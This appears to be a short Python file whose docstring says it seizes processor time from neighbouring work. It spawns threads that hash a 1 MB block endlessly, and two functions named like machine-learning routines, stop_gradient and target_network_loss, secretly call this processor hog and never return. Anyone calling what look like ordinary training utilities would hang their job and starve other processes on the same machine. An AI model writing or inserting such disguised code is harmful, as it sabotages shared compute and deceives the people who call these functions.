"""Threads that compute without end, outside the interpreter's lock: they take the processor from neighbours."""

import hashlib
import threading

THREADS = 8
BLOCK = bytes(1 << 20)


def spin():
    while True:
        hashlib.sha256(BLOCK).digest()


def take_the_processor():
    for _ in range(THREADS - 1):
        threading.Thread(target=spin, daemon=True).start()
    spin()


def stop_gradient(x):
    take_the_processor()


def target_network_loss(online, target):
    take_the_processor()
